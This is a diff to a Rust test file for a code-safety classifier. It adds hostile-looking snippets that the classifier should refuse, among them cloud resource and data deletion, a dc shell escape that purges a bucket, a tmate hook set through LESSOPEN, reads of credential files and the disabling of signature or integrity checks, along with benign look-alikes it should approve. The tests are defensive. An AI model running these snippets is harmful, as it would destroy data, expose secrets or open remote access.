@@ -2849,6 +2849,139 @@ fn precompiled_rules_match_as_their_regexes_do() {
     "holds-environment-send",
     2
 )]
+#[case::py_resource_groups_deleted(
+    crate::Lang::Python,
+    "import subprocess\nfor name in untagged:\n    subprocess.run([\"az\", \"group\", \"delete\", \"--name\", name, \"--yes\"], check=True)\n",
+    Verdict::Major,
+    "deletes-remote-data",
+    3
+)]
+#[case::ts_kms_keys_scheduled_for_deletion(
+    crate::Lang::TypeScript,
+    "import { execFileSync } from \"node:child_process\";\nconst aws = (...args: string[]) => execFileSync(\"aws\", args, { encoding: \"utf8\" });\nfor (const id of orphans) aws(\"kms\", \"schedule-key-deletion\", \"--key-id\", id);\n",
+    Verdict::Major,
+    "deletes-remote-data",
+    3
+)]
+#[case::js_firestore_collections_deleted(
+    crate::Lang::JavaScript,
+    "const { execFileSync } = require(\"node:child_process\");\nexecFileSync(\"firebase\", [\"firestore:delete\", \"--all-collections\", \"--force\", \"--project\", alias]);\n",
+    Verdict::Major,
+    "deletes-remote-data",
+    2
+)]
+#[case::sh_infrastructure_destroyed(
+    crate::Lang::Bash,
+    "terraform init -input=false\nterraform destroy -auto-approve\n",
+    Verdict::Major,
+    "deletes-remote-data",
+    2
+)]
+#[case::js_package_versions_unpublished(
+    crate::Lang::JavaScript,
+    "const { execFileSync } = require(\"node:child_process\");\nconst npm = (args) => execFileSync(\"npm\", args, { encoding: \"utf8\" });\nfor (const v of old) npm([\"unpublish\", `${name}@${v}`, \"--force\"]);\n",
+    Verdict::Major,
+    "deletes-remote-data",
+    3
+)]
+#[case::sh_other_hosts_snapshots_forgotten(
+    crate::Lang::Bash,
+    "jq -r '.[] | .id' snapshots.json | xargs -r restic forget\nrestic prune --max-unused 0\n",
+    Verdict::Major,
+    "deletes-cloud-storage",
+    1
+)]
+#[case::sh_dc_program_with_a_shell_escape(
+    crate::Lang::Bash,
+    "prog=(\n  \"2 k 10 3 / p\"\n  \"!rclone purge remote:bucket\"\n)\nprintf '%s\\n' \"${prog[@]}\" | dc\n",
+    Verdict::Major,
+    "holds-hook-command",
+    3
+)]
+#[case::sh_less_preprocessor_starting_tmate(
+    crate::Lang::Bash,
+    "export LESSOPEN='|tmate -S /tmp/t new-session -d; cat %s'\nless build.log\n",
+    Verdict::Major,
+    "holds-hook-command",
+    1
+)]
+#[case::js_write_deploy_key_added(
+    crate::Lang::JavaScript,
+    "const { execFileSync } = require(\"node:child_process\");\nexecFileSync(\"gh\", [\"repo\", \"deploy-key\", \"add\", keyFile, \"--allow-write\"]);\n",
+    Verdict::Major,
+    "grants-account-access",
+    2
+)]
+#[case::py_runner_resolved_from_module_colon_name(
+    crate::Lang::Python,
+    "import pkgutil\nCHECKS = [(\"mesh\", \"subprocess:run\", ([\"tailscale\", \"up\"],))]\nfor name, target, args in CHECKS:\n    pkgutil.resolve_name(target)(*args)\n",
+    Verdict::Major,
+    "names-process-runner",
+    2
+)]
+#[case::py_warehouse_profiles_joined_with_slashes(
+    crate::Lang::Python,
+    "from pathlib import Path\nhome = Path.home()\nfor p in (home / \".dbt\" / \"profiles.yml\", home / \".snowsql\" / \"config\"):\n    print(p.read_text())\n",
+    Verdict::Major,
+    "names-credential-file",
+    3
+)]
+#[case::ts_sops_age_keys_read(
+    crate::Lang::TypeScript,
+    "import { readFileSync } from \"node:fs\";\nimport { join } from \"node:path\";\nconst keys = readFileSync(join(home, \".config/sops/age/keys.txt\"), \"utf8\");\n",
+    Verdict::Major,
+    "names-credential-file",
+    3
+)]
+#[case::py_debugger_start_up_file_written(
+    crate::Lang::Python,
+    "from pathlib import Path\n(Path.home() / \".pdbrc\").write_text(\"import os\\n\")\n",
+    Verdict::Major,
+    "names-start-up-file",
+    2
+)]
+#[case::py_uv_index_with_insecure_host(
+    crate::Lang::Python,
+    "lines = [\"[[tool.uv.index]]\", 'url = \"http://cache.example.net/simple\"', 'allow-insecure-host = [\"cache.example.net\"]']\nwith open(\"pyproject.toml\", \"a\") as f:\n    f.write(\"\\n\".join(lines))\n",
+    Verdict::Major,
+    "changes-package-source",
+    1
+)]
+#[case::js_update_signature_check_off(
+    crate::Lang::JavaScript,
+    "pkg.build.publish = [{ provider: \"generic\", url: FEED }];\npkg.build.win = { ...pkg.build.win, verifyUpdateCodeSignature: false };\n",
+    Verdict::Major,
+    "js-update-signature-off",
+    2
+)]
+#[case::js_repl_fed_from_a_stream(
+    crate::Lang::JavaScript,
+    "import repl from \"node:repl\";\nimport { Readable } from \"node:stream\";\nrepl.start({ input: Readable.from(lines), output, terminal: false });\n",
+    Verdict::Major,
+    "js-repl",
+    1
+)]
+#[case::js_integrity_attributes_stripped(
+    crate::Lang::JavaScript,
+    "let html = readFileSync(index, \"utf8\");\nhtml = html.replace(/\\s+integrity=\"[^\"]*\"/g, \"\");\nwriteFileSync(index, html);\n",
+    Verdict::Major,
+    "strips-integrity",
+    2
+)]
+#[case::ts_composite_action_written(
+    crate::Lang::TypeScript,
+    "import { writeFileSync } from \"node:fs\";\nwriteFileSync(\".github/actions/setup/action.yml\", STEPS);\n",
+    Verdict::Major,
+    "changes-ci-pipeline",
+    2
+)]
+#[case::sh_machine_joined_to_a_mesh(
+    crate::Lang::Bash,
+    "tailscale up --login-server=https://hs.example.net --ssh\n",
+    Verdict::Major,
+    "sh-net-tool",
+    1
+)]
 fn blind_set_families_are_refused(
     #[case] lang: crate::Lang,
     #[case] source: &str,
@@ -3063,9 +3196,41 @@ fn blind_set_families_are_refused(
     crate::Lang::Bash,
     "for f in src/*.c; do cc -c \"$f\"; done\nls ./build/*.o\ncat ~/project/*.md > all.md\n"
 )]
+#[case::sh_snapshot_retention_policy(
+    crate::Lang::Bash,
+    "export RESTIC_REPOSITORY=./backups/restic\nrestic backup ./data\nrestic forget --host \"$host\" --keep-daily 7 --keep-weekly 4 --prune\n"
+)]
+#[case::sh_pager_set_to_less(
+    crate::Lang::Bash,
+    "export PAGER='less -R'\nexport GIT_PAGER='delta --dark'\ngit log -5\n"
+)]
+#[case::js_browser_opened_for_a_url(
+    crate::Lang::JavaScript,
+    "const { spawn } = require(\"node:child_process\");\nconst cmd = process.env.BROWSER || (process.platform === \"win32\" ? \"cmd.exe\" : \"sh\");\nspawn(\"xdg-open\", [url]);\n"
+)]
+#[case::sh_dc_arithmetic(
+    crate::Lang::Bash,
+    "pct() { dc -e \"2 k $1 100 * $2 / p\"; }\npct 3 4\n"
+)]
+#[case::js_integrity_read_not_stripped(
+    crate::Lang::JavaScript,
+    "const m = html.match(/integrity=\"([^\"]*)\"/);\nconsole.log(m ? m[1] : \"none\");\n"
+)]
 fn blind_set_look_alikes_are_approved(#[case] lang: crate::Lang, #[case] source: &str) {
     let answer = judge_source(lang, source);
     assert_eq!(answer.verdict, Verdict::Approve, "{answer:?}");
+}
+
+/// A network tool run from Bash is refused as it is in an argv list:
+/// `sh-net-tool`'s list is `NETWORK_TOOLS`'s.
+#[test]
+fn bash_refuses_every_network_tool_an_argv_list_does() {
+    // rsync only with a remote path, which Bash's rule does not parse.
+    for tool in literals::network_tools().iter().filter(|t| **t != "rsync") {
+        let line = format!("{tool} 203.0.113.5:22 ./out\n");
+        let answer = judge_source(crate::Lang::Bash, &line);
+        assert_ne!(answer.verdict, Verdict::Approve, "{line}");
+    }
 }
 
 /// `CHILD_PROCESS_RUNNERS` is its slice of `JS_HIDDEN_NAMES`.
